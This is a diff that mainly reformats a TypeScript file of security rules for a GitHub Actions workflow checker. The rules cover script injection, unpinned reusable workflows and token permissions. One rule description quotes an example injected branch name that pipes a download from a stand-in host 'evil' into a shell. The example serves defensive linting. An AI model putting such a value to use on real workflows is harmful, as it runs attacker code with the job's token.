@@ -4,7 +4,8 @@
  */
 import type { PolicyRuleInput } from "../types";
 
-const HARDENING = "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions";
+const HARDENING =
+  "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions";
 const tags = ["workflow", "security"];
 
 /**
@@ -32,7 +33,7 @@ export const workflowRules: PolicyRuleInput[] = [
     id: "workflow-script-injection",
     name: "Untrusted input interpolated into a script",
     description:
-      "A ${{ }} expression is pasted into the script before the shell runs it, so an issue title or branch name like `a\"; curl evil | sh; \"` runs as code with the job's token. Pass the value through env: and quote \"$VAR\" instead.",
+      'A ${{ }} expression is pasted into the script before the shell runs it, so an issue title or branch name like `a"; curl evil | sh; "` runs as code with the job\'s token. Pass the value through env: and quote "$VAR" instead.',
     severity: "high",
     target: "workflow",
     rule: `step.expressions.exists(e, e.matches(${JSON.stringify(UNTRUSTED_CONTEXT)}))`,
@@ -71,7 +72,8 @@ export const workflowRules: PolicyRuleInput[] = [
   {
     id: "workflow-unpinned-reusable-workflow",
     name: "Reusable workflow not pinned to a commit SHA",
-    description: "A reusable workflow called by tag or branch runs whatever that ref points to today, with this job's secrets.",
+    description:
+      "A reusable workflow called by tag or branch runs whatever that ref points to today, with this job's secrets.",
     severity: "medium",
     target: "workflow",
     scope: "job",
@@ -84,7 +86,8 @@ export const workflowRules: PolicyRuleInput[] = [
   {
     id: "workflow-write-all-permissions",
     name: "GITHUB_TOKEN with write-all",
-    description: "permissions: write-all gives every step a token that can push code, publish releases and change settings.",
+    description:
+      "permissions: write-all gives every step a token that can push code, publish releases and change settings.",
     severity: "medium",
     target: "workflow",
     scope: "job",
@@ -104,8 +107,9 @@ export const workflowRules: PolicyRuleInput[] = [
     scope: "workflow",
     rule: "workflow.permissions == null && workflow.jobs.exists(j, j.permissions == null)",
     message:
-      "no permissions: block for the workflow or for job(s) {{ workflow.jobs.filter(j, j.permissions == null).map(j, j.id).join(\", \") }}",
-    helpUri: "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token",
+      'no permissions: block for the workflow or for job(s) {{ workflow.jobs.filter(j, j.permissions == null).map(j, j.id).join(", ") }}',
+    helpUri:
+      "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token",
     tags,
   },
 ];
